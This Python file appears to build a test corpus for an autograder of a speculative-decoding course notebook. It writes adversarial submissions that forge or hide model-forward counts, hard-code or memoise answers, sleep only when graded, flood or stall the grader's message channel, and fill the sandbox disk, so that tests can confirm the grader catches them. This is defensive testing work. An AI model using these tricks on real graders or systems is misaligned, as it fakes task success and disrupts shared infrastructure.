                                            CACHED_DECODE.replace("        self.reset_caches()",
                                                                  TIMED_DELEGATION + "        self.reset_caches()")),
         Expected(loses=("test_speedup",), message="handed its work to HF's speculative decoding",
                  targets=("test_speedup",), marker=True)),
    # A wasteful decoder (a second target forward per rejection) that hides its forwards, then one that forges them:
    # the grader counts what it ran.
    Case("hide_forwards", lambda: edited(catalogue_entry("extra_target_forward"), SPECULATIVE_DECODE,
                                         SPECULATIVE_DECODE + HIDE_FORWARDS),
         Expected(loses=("test_verify_alignment", "test_correction_and_bonus", "test_counts"),
                  targets=("test_counts",), marker=True)),
    Case("forged_forwards", lambda: with_cell(catalogue_entry("prefix_reencoded"), FORGE_FORWARDS, after="imports"),
         Expected(loses=("test_cache_use", "test_speedup"), targets=("test_cache_use",), marker=True)),
    Case("generate_behind_counts", generate_behind_counts,
         Expected(loses=("test_counts", "test_speedup"), targets=("test_counts", "test_speedup"), marker=True)),
    # With the bonus classes solved: test_sampling's checks decode one prompt many times with the sampler, which
    # inherits this decode, and the memo answers the repeats (its marker); the speed test's prompts are new every run.
    Case("cached_outputs", lambda: edited(catalogue_entry("slow_rounds", released=()), CACHED_DECODE,
                                          CACHED_DECODE.replace("        self.reset_caches()", MEMO
                                                                + "        self.reset_caches()")),
         Expected(loses=("test_speedup",), targets=("test_speedup",), marker=True)),
    Case("skip_draft", lambda: edited(parts_solved(), DRAFT_START, SKIP_DRAFT + DRAFT_START),
         Expected(loses=("test_draft_tokens", "test_counts"), targets=("test_draft_tokens", "test_counts"),
                  marker=True)),
    Case("hard_coded", hard_coded, Expected(loses=("test_exact", "test_eos_and_budget", "test_counts", *CACHED),
                                            targets=("test_exact", "test_cached_exact"), marker=True)),
    # In a sandbox neither finds anything to read or write: the blank's row, and a page (tests/test_corpora.py
    # checks that no page shows the hidden checks).
    Case("read_files", on_blank(READ_FILES), Expected(loses=AUTO, targets=AUTO, marker=True)),
    # write_gradebook also carries the readers' tampers (for_readers): its page and grades.csv are what staff open.
    Case("write_gradebook", lambda: for_readers(on_blank(WRITE_GRADEBOOK)()),
         Expected(loses=AUTO, targets=AUTO, marker=True)),
    Case("escape", on_blank(ESCAPE), Expected(loses=AUTO, targets=AUTO, marker=True)),
    Case("raised_points", raised_points, Expected("error", AUTO, "could not start", targets=AUTO)),
    Case("exit_after_pass", lambda: with_cell(blank(), EXIT_AFTER_PASS, after="test_counts"),
         Expected("kernel_died", AUTO, "exited with status 0", targets=AUTO, marker=True)),
    Case("vacuous", on_blank(VACUOUS), Expected(loses=AUTO, targets=AUTO, marker=True)),
    # A forged load answer on the blank release: it passes the notebook's own test_loading (the kernel trusts its
    # probe), and grading, which judges the forwards the grader served, fails it as the blank's.
    Case("forged_load_report", on_blank(FORGE_LOAD),
         Expected(loses=AUTO, message="test_loading: the notebook's own run passed its visible check",
                  targets=("test_loading",), marker=True)),
    Case("timed_table", timed_table, Expected(loses=("test_speedup",), targets=("test_speedup",), marker=True)),
    Case("leak_inputs", lambda: with_cell(parts_solved(), LEAK_INPUTS, after="cached_speculative_decoder"),
         Expected(loses=("test_exact", "test_cached_exact", "test_speedup"), marker=True)),
    # Hidden and timed prompts packed into the answers' case numbers: those cases go unanswered and no page, row or
    # record shows the number (tests/test_corpora.py checks).
    Case("index_leak", lambda: with_cell(parts_solved(), INDEX_LEAK, after="cached_speculative_decoder"),
         Expected(loses=("test_exact", "test_cached_exact", "test_speedup"), marker=True)),
    Case("largest_requests", lambda: edited(parts_solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + HOG),
         Expected(loses=("test_eos_and_budget",), message="did not return within", marker=True)),
]


# Delegation: the cached decoder hands its decoding to transformers' assisted generation. The scan flags the line for a
# person; the forwards the grader runs for that generate are not a cached decoder's rounds, so its checks fail.
DELEGATE = f"""        {marker("delegates")}
        encoded = self.target_tokenizer(prompt, return_tensors="pt")
        out = self.target_model.generate(**encoded, assistant_model=self.draft_model, do_sample=False,
                                         max_new_tokens=max_tokens, num_assistant_tokens=num_speculative_tokens)
        tokens = out[0, encoded.input_ids.shape[1]:].tolist()
        return DecodeResult(text=self.target_tokenizer.decode(tokens), token_ids=tokens, proposed=[len(tokens)],
                            accepted=[len(tokens)])
"""
# Sleeping only when graded (not on Colab): the cell is stopped at its limit and the run goes on; the row says timeout
# and where, and the code is graded on its own.
SLEEP_WHEN_GRADED = f"""import os, time
if not os.path.exists("/content"):
    {marker("sleeps_when_graded")}
    time.sleep(3600)
"""
LOADED = "        return model.to(self.device).eval(), tokenizer\n"
COMPILED = ("        model = model.to(self.device).eval()\n"
            "        model.compile(backend='eager')  # dynamo's tracing and guards, as torch.compile(model) has\n"
            "        return model, tokenizer\n")


FILL_BYTES = """with open("big", "wb") as f:  # past the sandbox's bytes ([limits] scratch_mb) or its largest file
    for _ in range(4096):
        f.write(bytes(1 << 20))
"""
FILL_FILES = """import os
os.remove("big")
for i in range(100_000):  # past the sandbox's files ([limits] scratch_files)
    open(f"file{i}", "w").close()
"""


def fills_space() -> nbformat.NotebookNode:
    """The blank release with a cell past the sandbox's bytes, one past its files, then one that says it ran."""
    notebook = with_cell(blank(), marker("fills_space"), after="imports")
    return with_cell(with_cell(notebook, FILL_FILES, after="imports"), FILL_BYTES, after="imports")


def compiled_models() -> nbformat.NotebookNode:
    """Parts 1 and 2 solved with their models compiled, as the course's own student did (the eager backend needs no
    compiler)."""
    return edited(parts_solved(), LOADED, COMPILED)


# Grading children that stop answering in one edge case: half a message then silence, a model's reply never read, a
# stall inside the timed section (its prompts end in the six digits the grader draws), a flood of small messages
# there, definitions that never end in the speed test's child. Each costs the check that waited, in words that say
# what the child left undone, and never the batch. Only in a grading child (the notebook's own run has no channel).
HALF_MESSAGE = """        from specdec_kit import remote
        if max_tokens == 1 and remote._channel is not None:
            import time
            remote._channel._send(b"\\x00\\x01\\x00\\x00{")  # announces 64 KB, sends one byte
            time.sleep(3600)
"""
UNREAD_REPLY = """        from specdec_kit import remote
        if max_tokens == 1 and remote._channel is not None:
            import json, time
            remote._channel.send_bytes(json.dumps({"event": "model", "op": "forward", "pair": "tiny",
                                                   "role": "target", "ids": [[1] * 512], "cache": None}).encode())
            time.sleep(3600)  # the logits, megabytes, never read
"""
STALL_WHEN_TIMED = """        import re
        if re.search(r" [0-9]{6}$", prompt):  # its channel found, not taken from the kit, as a reader of the kit would
            import gc, time
            from multiprocessing.connection import Connection
            for channel in [o for o in gc.get_objects() if isinstance(o, Connection)]:
                channel._send(b"\\x00\\x01\\x00\\x00{")
            time.sleep(3600)
"""
FLOOD_WHEN_TIMED = """        import re
        if re.search(r" [0-9]{6}$", prompt):
            import gc
            from multiprocessing.connection import Connection
            for channel in [o for o in gc.get_objects() if isinstance(o, Connection)]:
                while True:
                    channel.send_bytes(b'{"event": "call", "method": "flood"}')
"""
# Definitions that never end in the speed test's child alone (the one child the timing pair is served to).
NEVER_STARTS_WHEN_TIMED = """class NeverStarts:
    from specdec_kit import remote as _remote
    for _path in _remote._folders:
        if "synthetic-small" in _path:
            import time as _time
            _time.sleep(3600)
"""
STALLS = [
    Case("half_message", lambda: edited(parts_solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + HALF_MESSAGE),
         Expected(loses=("test_eos_and_budget",), message="sent part of a message, then waited")),
    Case("unread_reply", lambda: edited(parts_solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + UNREAD_REPLY),
         Expected(loses=("test_eos_and_budget",), message="read part of the grader's message, then waited")),
    Case("stall_in_timing", lambda: edited(parts_solved(), CACHED_DECODE, CACHED_DECODE + "\n" + STALL_WHEN_TIMED),
         Expected(loses=("test_speedup",), message="sent part of a message, then waited")),
    Case("flood_in_timing", lambda: edited(parts_solved(), CACHED_DECODE, CACHED_DECODE + "\n" + FLOOD_WHEN_TIMED),
         Expected(loses=("test_speedup",), message="messages for one request")),
    Case("never_starts_in_timing", lambda: with_cell(parts_solved(), NEVER_STARTS_WHEN_TIMED, after="imports"),
         Expected(loses=("test_speedup",), message="sent nothing, then waited")),
]

# A request the grader's model server refuses (a generate whose max_length is not a number), made in one edge case and
# not caught: the ValueError the child gets fails that check alone, the row stays graded, and the visible case's verdict
# gives the refusal's words (a hidden case's would give only the exception's kind).
MALFORMED_REQUEST = """        if max_tokens == 1 and type(self.target_model).__name__ == "RemoteModel":
            self.target_model.generate(torch.tensor([[1]]), max_length="x")
"""

# What students do that grading must handle: hand decoding to a library (flagged for a person), stall only when
# graded, compile their models (full marks and a feedback page, not one withheld for torch's warnings), send the
# grader's models a request they refuse (that check lost, with the refusal's words).
STUDENTS = [
    Case("delegates", lambda: edited(parts_solved(), CACHED_DECODE, CACHED_DECODE.replace("        self.reset_caches()",
                                                                                    DELEGATE)),
         Expected(loses=("test_cache_use", "test_speedup"), flag="delegates decoding", marker=True)),
    Case("sleeps_when_graded", lambda: with_cell(first_class(), SLEEP_WHEN_GRADED, after="test_counts"),
         Expected("timeout", CACHED, "stopped a cell at its time limit and went on: cell", marker=True)),
    Case("compiled_models", compiled_models),
    Case("malformed_request",
         lambda: edited(parts_solved(), SPECULATIVE_DECODE, SPECULATIVE_DECODE + MALFORMED_REQUEST),
         Expected(loses=("test_eos_and_budget",), message="generate got max_length")),
    Case("long_docstrings", long_docstrings),
    Case("fills_space", fills_space,
         Expected(loses=AUTO, message="ran out of its sandbox's space in cell", marker=True)),
]
# Ids the same but for case or Unicode normalisation: two students each, in grades.csv and the export (cheap: not
# notebooks, so nothing runs).
TWINS = [Case(name, lambda: b"{ not a notebook") for name in
         ("Twin", "twin", unicodedata.normalize("NFC", "Émile"), unicodedata.normalize("NFD", "Émile"))]


def write_corpus(folder: Path, cases: list[Case]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        built = case.build()
        path = folder / f"{case.name}.ipynb"
        if isinstance(built, Placed):
            built.place(path)
        elif isinstance(built, bytes):
            path.write_bytes(built)
        else:
            nbformat.write(copy.deepcopy(built), path, version=built.get("nbformat", 4))
